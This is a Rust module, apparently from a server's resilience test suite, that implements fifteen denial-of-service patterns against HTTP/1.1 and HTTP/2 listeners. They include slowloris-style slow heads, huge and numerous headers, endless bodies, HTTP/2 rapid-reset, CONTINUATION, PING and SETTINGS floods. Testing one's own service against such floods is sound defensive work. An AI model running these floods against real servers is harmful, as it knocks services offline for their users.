//! What attackers do.

use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _};

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame, head,
    literal, opening,
};
use super::{Stream, Target};

/// Between two bytes of somebody slow.
const SLOW: Duration = Duration::from_millis(250);

/// Between two bursts of somebody fast: as fast as can be would be a question of whose processor is faster.
const BURST_EVERY: Duration = Duration::from_millis(10);

/// Frames of a burst.
const BURST: usize = 100;

/// One way to wear a listener out.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Attack {
    /// Says nothing.
    Silent,
    /// Begins a TLS handshake and says no more.
    HalfHandshake,
    /// Sends a head byte by byte.
    SlowHead,
    /// Sends a head of a megabyte.
    HugeHead,
    /// Sends 10,000 header lines.
    ManyHeaders,
    /// Sends a body that has no end.
    EndlessBody,
    /// Asks and asks, and reads nothing.
    Deaf,
    /// HTTP/2: opens a connection and no stream.
    SilentHttp2,
    /// HTTP/2: asks, and takes nothing of the answer.
    DeafHttp2,
    /// HTTP/2: a head that goes on without end.
    Continuations,
    /// HTTP/2: pings as fast as it may.
    Pings,
    /// HTTP/2: other settings as fast as it may.
    Settings,
    /// HTTP/2: opens streams and takes them back.
    Resets,
    /// HTTP/2: frames of a body without anything in them.
    EmptyData,
    /// HTTP/2: a call whose message never comes.
    StalledCall,
}

impl Attack {
    /// All of them.
    pub const ALL: [Attack; 15] = [
        Attack::Silent,
        Attack::HalfHandshake,
        Attack::SlowHead,
        Attack::HugeHead,
        Attack::ManyHeaders,
        Attack::EndlessBody,
        Attack::Deaf,
        Attack::SilentHttp2,
        Attack::DeafHttp2,
        Attack::Continuations,
        Attack::Pings,
        Attack::Settings,
        Attack::Resets,
        Attack::EmptyData,
        Attack::StalledCall,
    ];

    /// Whether it speaks HTTP/2.
    #[must_use]
    pub fn is_http2(self) -> bool {
        self >= Attack::SilentHttp2
    }

    /// Whether it completes a handshake, where there is one.
    pub(super) fn is_over_tls(self) -> bool {
        self > Attack::HalfHandshake
    }

    /// Whether it makes sense at a listener.
    pub(super) fn suits(self, target: &Target) -> bool {
        match self {
            Attack::HalfHandshake => target.ca.is_some(),
            _ => target.http2 || !self.is_http2(),
        }
    }

    /// Does it until the server ends the connection.
    pub(super) async fn run(self, stream: Box<dyn Stream>) {
        let (mut reading, writing) = tokio::io::split(stream);
        if self == Attack::Deaf {
            return self.write(writing).await;
        }
        let writes = async {
            self.write(writing).await;
            // What could not be written any more is seen by whoever reads.
            std::future::pending::<()>().await;
        };
        tokio::select! {
            biased;
            () = to_the_end(&mut reading) => {}
            () = writes => {}
        }
    }

    async fn write(self, mut to: tokio::io::WriteHalf<Box<dyn Stream>>) {
        let fast = |bytes: Vec<u8>| (bytes, BURST_EVERY);
        let (first, again): (Vec<u8>, Option<(Vec<u8>, Duration)>) = match self {
            Attack::Silent => (Vec::new(), None),
            // The head of a record, of which no more comes.
            Attack::HalfHandshake => (vec![0x16, 3, 1, 2, 0, 1], None),
            Attack::SlowHead => (
                b"GET / HTTP/1.1\r\nhost: localhost\r\nx: ".to_vec(),
                Some((b"x".to_vec(), SLOW)),
            ),
            Attack::HugeHead => (huge_head(), None),
            Attack::ManyHeaders => (many_headers(), None),
            Attack::EndlessBody => (
                b"POST /api/v1/model HTTP/1.1\r\nhost: localhost\r\ntransfer-encoding: chunked\r\n\r\n"
                    .to_vec(),
                Some(fast(b"4\r\nbody\r\n".repeat(BURST))),
            ),
            Attack::Deaf => (
                Vec::new(),
                Some((
                    b"GET /metrics HTTP/1.1\r\nhost: localhost\r\n\r\n".repeat(BURST),
                    BURST_EVERY,
                )),
            ),
            Attack::SilentHttp2 => (opening(false), None),
            Attack::DeafHttp2 => {
                let asks = frame(HEADERS, END_HEADERS | END_STREAM, 1, &head(false));
                ([opening(true), asks].concat(), None)
            }
            Attack::Continuations => {
                let begins = frame(HEADERS, END_STREAM, 1, &head(false));
                let goes_on = frame(CONTINUATION, 0, 1, &literal("x", &"x".repeat(100)).repeat(100));
                ([opening(false), begins].concat(), Some(fast(goes_on.repeat(4))))
            }
            Attack::Pings => (
                opening(false),
                Some(fast(frame(PING, 0, 0, b"12345678").repeat(BURST))),
            ),
            Attack::Settings => {
                // SETTINGS_HEADER_TABLE_SIZE, 4096.
                let other = frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0]);
                (opening(false), Some(fast(other.repeat(BURST))))
            }
            Attack::Resets => return resets(to).await,
            Attack::EmptyData => {
                let begins = frame(HEADERS, END_HEADERS, 1, &head(true));
                let nothing = frame(DATA, 0, 1, b"").repeat(BURST);
                ([opening(false), begins].concat(), Some(fast(nothing)))
            }
            Attack::StalledCall => {
                let asks = frame(HEADERS, END_HEADERS, 1, &head(true));
                ([opening(false), asks].concat(), None)
            }
        };
        if to.write_all(&first).await.is_err() || to.flush().await.is_err() {
            return;
        }
        let Some((again, every)) = again else { return };
        while to.write_all(&again).await.is_ok() && to.flush().await.is_ok() {
            tokio::time::sleep(every).await;
        }
    }
}

/// Opens streams and takes them back at once, each with a number of its own.
async fn resets(mut to: tokio::io::WriteHalf<Box<dyn Stream>>) {
    let mut burst = opening(false);
    let mut stream = 1;
    // RST_STREAM with CANCEL.
    let cancel = 8_u32.to_be_bytes();
    while to.write_all(&burst).await.is_ok() && to.flush().await.is_ok() {
        burst.clear();
        for _ in 0..BURST {
            burst.extend(frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                stream,
                &head(false),
            ));
            burst.extend(frame(RST_STREAM, 0, stream, &cancel));
            stream += 2;
        }
        tokio::time::sleep(BURST_EVERY).await;
    }
}

fn huge_head() -> Vec<u8> {
    let mut bytes = b"GET / HTTP/1.1\r\nhost: localhost\r\nx: ".to_vec();
    bytes.resize(1 << 20, b'x');
    bytes.extend(b"\r\n\r\n");
    bytes
}

fn many_headers() -> Vec<u8> {
    let mut bytes = b"GET / HTTP/1.1\r\nhost: localhost\r\n".to_vec();
    for _ in 0..10_000 {
        bytes.extend(b"a: b\r\n");
    }
    bytes.extend(b"\r\n");
    bytes
}

/// Reads until nothing comes any more.
async fn to_the_end(from: &mut (impl AsyncRead + Unpin)) {
    let mut space = vec![0; 16 << 10];
    while matches!(from.read(&mut space).await, Ok(1..)) {}
}
